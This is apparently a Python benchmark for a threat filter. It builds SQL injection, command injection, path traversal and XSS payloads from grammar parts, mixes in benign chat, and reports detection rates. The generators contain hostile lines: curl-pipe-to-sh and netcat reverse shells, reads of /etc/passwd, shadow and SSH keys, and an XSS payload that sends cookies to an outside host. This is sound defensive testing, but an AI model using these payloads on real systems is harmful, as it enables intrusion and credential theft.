"""Detection on payloads and chat built here from each technique's grammar, never from a corpus.

    .venv/bin/python benchmarks/threat/generated.py [--count 400] [--seed 7] [--show 5]

A second check of generality beside the family split: each attack generator composes a
technique from its parts (the value a payload lands after, how it leaves a literal, the
operator, the comment or separator, the spelling: case, spacing, inline comments, percent
encoding), so most lines are combinations no rule was written from. The benign generators
write chat that uses the same characters (apostrophes, "and"/"or", numbers, `;` and `|`,
paths, shell and SQL talk). Prints the share flagged per generator (blocked, modified or an
alert, sink `bot`) and, with `--show`, a few misses or false alarms of each.
"""

from __future__ import annotations

import argparse
import random
import sys
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

sys.path[:0] = [str(Path(__file__).resolve().parents[2])]

from filters import Action  # noqa: E402
from filters.threat import ThreatFilter, ThreatOptions  # noqa: E402

Maker = Callable[[random.Random], str]


def _case(rng: random.Random, text: str) -> str:
    return rng.choice((text, text.upper(), text.lower(), "".join(
        c.upper() if rng.random() < 0.5 else c for c in text)))


def _space(rng: random.Random) -> str:
    return rng.choice((" ", " ", "  ", "/**/", "+", "%20", "\t"))


def _sql(rng: random.Random) -> str:
    n = str(rng.randint(1, 9999))
    m = str(rng.randint(1, 9999))
    value = rng.choice(("", n, "abc", "user", "x", "john.doe", "7a"))
    closer = rng.choice(("'", '"', ")", "')", '")', "'))", ""))
    s = _space(rng)
    core = rng.choice((
        f"or{s}{n}={n}", f"and{s}{n}={m}", f"or{s}'{n}'='{n}", f"||{s}{n}>{int(m) % 9}",
        f"and{s}{n}{s}between{s}1{s}and{s}{int(n) + 1}", f"or{s}true", f"and{s}substring(version(),1,1)={n[0]}",
        f"union{s}select{s}" + ",".join(rng.choice(("null", n, "@@version", "user()")) for _ in range(rng.randint(1, 5))),
        f"and{s}sleep({rng.randint(1, 9)})", f"or{s}pg_sleep({rng.randint(1, 9)})",
        f";{s}drop{s}table{s}{rng.choice(('users', 'orders', 'logs'))}", f"and{s}ascii(substr(database(),1,1))>{m}",
        f"or{s}exists(select{s}1{s}from{s}users)", f"and{s}(select{s}count(*){s}from{s}t)>{n}",
        f"order{s}by{s}{rng.randint(1, 30)}", f"having{s}{n}={n}", f"rlike{s}(select{s}{n})",
    ))
    tail = rng.choice(("--", "-- -", "#", "/*", ";--", "", "", f"{s}and{s}'{value}'='{value}"))
    line = f"{value}{closer}{rng.choice((' ', '', s))}{core}{s if tail else ''}{tail}"
    line = _case(rng, line)
    return quote(line, safe="") if rng.random() < 0.1 else line


def _shell(rng: random.Random) -> str:
    value = rng.choice(("", "127.0.0.1", "8.8.8.8", "x", "'", '"', "file.txt", "a b"))
    sep = rng.choice((";", "|", "||", "&", "&&", "\n", "`", "$("))
    cmd = rng.choice(("id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "curl http://203.0.113.9/x | sh",
                      "wget -qO- http://198.51.100.2/s", "nc -e /bin/sh 203.0.113.5 4444", "ping -c 3 127.0.0.1",
                      "sleep 5", "net user", "ipconfig /all", "type c:\\windows\\win.ini", "echo pwned > /tmp/p",
                      "powershell -enc SQBFAFgA", "get-process -name lsass", "bash -i"))
    close = {"`": "`", "$(": ")"}.get(sep, rng.choice(("", "", ";", " #", "|")))
    return f"{value}{sep}{rng.choice(('', ' '))}{cmd}{close}"


def _traversal(rng: random.Random) -> str:
    up = rng.choice(("../", "..\\", "..%2f", "%2e%2e%2f", "%2e%2e/", "..%5c", "....//", "..%c0%af", "%252e%252e%252f",
                     "..;/", ".%2e/"))
    target = rng.choice(("etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ",
                         "var/www/.env", "web-inf/web.xml", ".ssh/id_rsa", "etc/hosts"))
    prefix = rng.choice(("", "", "/var/www/images/", "file=", "/download?path=", "static/"))
    return prefix + up * rng.randint(2, 8) + target + rng.choice(("", "", "%00", "%00.png", "\x00.jpg"))


def _xss(rng: random.Random) -> str:
    tag = rng.choice(("img", "svg", "body", "iframe", "video", "details", "input", "a", "div", "marquee", "x"))
    event = rng.choice(("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onclick", "onpointerenter"))
    sink = rng.choice(("alert(1)", "alert`1`", "prompt(document.domain)", "confirm(origin)", "eval(atob('YWxlcnQoMSk='))",
                       "fetch('//203.0.113.7?c='+document.cookie)", "top['al'+'ert'](1)", "location='//x.test'"))
    q = rng.choice(("", '"', "'"))
    form = rng.choice((
        f"<{tag} src=x {event}={q}{sink}{q}>", f"<{tag}/{event}={sink}>", f"\"><{tag} {event}={sink}>",
        f"<a href={q}javascript:{sink}{q}>x</a>", f"<script>{sink}</script>", f"'-{sink}-'",
        f"<{tag} {event}\n={sink}>", f"<iframe src=\"data:text/html,<script>{sink}</script>\">",
    ))
    form = _case(rng, form) if rng.random() < 0.3 else form
    return quote(form) if rng.random() < 0.1 else form


def _benign(rng: random.Random) -> str:
    name = rng.choice(("O'Brien", "D'Angelo", "Zoë", "Anne-Marie", "Mc'Neil", "Li", "Ng"))
    n = rng.randint(1, 99)
    return rng.choice((
        f"Hi, it's {name} again; I'd like 2 or 3 more of the blue ones.",
        f"Can you move my appointment to {n % 12 + 1}:30 or later? I can't do mornings.",
        f"I think {n} or {n + 1} people will come, and maybe {name}'s kids too.",
        "We're out of milk & eggs | bread is fine, thanks!",
        f"Order #{n}{n} arrived but the box was damaged :( what should I do?",
        "Is 'free shipping' = no fee at all, or only above $50?",
        "run `ls -la` in the project folder and send me the output",
        f"the query `select name from users where id = {n}` is slow, any idea why?",
        "my script does cd ../../ then make, and it fails on the second step",
        "I edited /etc/hosts and now the site loads; was that the right fix?",
        f"use grep -r 'TODO' src | wc -l to count them ({n} last time)",
        "is it x >= 5 and y < 3 or the other way round in that formula?",
        "The error says: permission denied (publickey). I'm on Windows 11.",
        f"{name} said: \"don't forget the meeting at {n % 12 + 1}pm\"",
        "password reset link doesn't work, I tried 3 times; can you help?",
        "where do I put the .env file, in the root or in config/?",
        "OR and AND in SQL: which one binds tighter?",
        "lol that's 100% true -- never deploy on a Friday",
        "price is 20% off if you buy 2 or more, right?",
        "I'll be there at 5; if not, start without me",
    ))


GENERATORS: dict[str, tuple[str, Maker]] = {
    "sqli": ("attack", _sql), "cmdi": ("attack", _shell), "traversal": ("attack", _traversal),
    "xss": ("attack", _xss), "benign chat": ("benign", _benign),
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--count", type=int, default=400)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--show", type=int, default=0)
    args = parser.parse_args()
    threat = ThreatFilter(ThreatOptions(sink="bot"))
    rng = random.Random(args.seed)
    print(f"{'generator':<14} {'lines':>6} {'flagged':>8}  (distinct lines; attacks should be flagged, chat not)")
    for name, (kind, make) in GENERATORS.items():
        lines = sorted({make(rng) for _ in range(args.count)})
        odd = []
        for line in lines:
            verdict = threat.decide(line)
            flagged = verdict.action is not Action.PASS or verdict.hints.alert
            if flagged != (kind == "attack"):
                odd.append(line)
        share = (len(lines) - len(odd)) / len(lines) if kind == "attack" else len(odd) / len(lines)
        print(f"{name:<14} {len(lines):>6} {share:>8.1%}")
        for line in odd[:args.show]:
            print(f"    {'missed' if kind == 'attack' else 'flagged'}: {line!r}")


if __name__ == "__main__":
    main()
